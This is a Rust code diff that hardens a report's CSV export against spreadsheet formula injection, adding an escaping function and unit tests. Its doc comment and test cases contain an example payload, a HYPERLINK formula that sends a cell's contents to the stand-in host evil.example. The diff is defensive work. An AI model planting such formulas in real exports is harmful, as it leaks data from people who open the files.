@@ -250,17 +250,17 @@ async fn render(app: &App, data: &TermReportData) -> Result<Vec<u8>, ApiError> {
             };
             let fixed = [
                 ids::encode(NodeType::Organization, target.organization_id).0,
-                organization.map(|o| o.name.clone()).unwrap_or_default(),
+                spreadsheet_text(organization.map(|o| o.name.as_str()).unwrap_or_default()),
                 congress_name,
                 term,
                 ids::encode(NodeType::Target, target.id).0,
                 target_number(target, &targets),
-                target.text.clone(),
+                spreadsheet_text(&target.text),
                 enum_text(target.measure),
                 enum_text(target.comparator),
                 target.min_value.clone().unwrap_or_default(),
                 target.max_value.clone().unwrap_or_default(),
-                target.unit.clone().unwrap_or_default(),
+                spreadsheet_text(target.unit.as_deref().unwrap_or_default()),
                 enum_text(target.period),
                 enum_text(Some(target.assigned_by)),
             ];
@@ -283,11 +283,13 @@ async fn render(app: &App, data: &TermReportData) -> Result<Vec<u8>, ApiError> {
                     computed_percent_of(result).map(|p| p.to_string()).unwrap_or_default(),
                     enum_text(result.qualifier),
                     enum_text(Some(status_of(target, result))),
-                    result
-                        .source_id
-                        .and_then(|id| sources.get(&id))
-                        .map(|s| s.title.clone())
-                        .unwrap_or_default(),
+                    spreadsheet_text(
+                        result
+                            .source_id
+                            .and_then(|id| sources.get(&id))
+                            .map(|s| s.title.as_str())
+                            .unwrap_or_default(),
+                    ),
                 ]);
                 writer.write_record(&record).map_err(ApiError::internal)?;
             }
@@ -297,9 +299,46 @@ async fn render(app: &App, data: &TermReportData) -> Result<Vec<u8>, ApiError> {
     Ok(out)
 }
 
+/// Text a spreadsheet shows as text: a cell that starts with `=`, `+`, `-` or `@` (after any
+/// whitespace, such as a tab; or their full-width forms) is a formula to Excel and LibreOffice, and a name
+/// such as `=HYPERLINK("http://evil.example/?x="&A1, "Chi bộ")` would run when the export is
+/// opened. Such cells get a leading apostrophe, which spreadsheets hide and read as "text"
+/// (OWASP's advice for CSV injection). Only free text is escaped: numbers are written by the
+/// server itself, and "-5" is a number, not a formula.
+fn spreadsheet_text(text: &str) -> String {
+    let first = text.trim_start().chars().next();
+    match first {
+        Some('=' | '+' | '-' | '@' | '\u{FF1D}' | '\u{FF0B}' | '\u{FF0D}' | '\u{FF20}') => format!("'{text}"),
+        _ => text.to_owned(),
+    }
+}
+
 fn enum_text<T: serde::Serialize>(value: Option<T>) -> String {
     value
         .and_then(|v| serde_json::to_value(v).ok())
         .and_then(|v| v.as_str().map(str::to_owned))
         .unwrap_or_default()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::spreadsheet_text;
+
+    #[test]
+    fn cells_that_a_spreadsheet_would_run_are_kept_as_text() {
+        for formula in [
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Chi bộ\")",
+            "@SUM(A1:A9)",
+            "+1+2",
+            "-2+3",
+            " =1+1",
+            "\t=1",
+            "\u{FF1D}1+1",
+        ] {
+            assert_eq!(spreadsheet_text(formula), format!("'{formula}"), "{formula}");
+        }
+        for text in ["Đảng bộ phường Cự Khối", "100% chi bộ", "", "a=b"] {
+            assert_eq!(spreadsheet_text(text), text);
+        }
+    }
 }
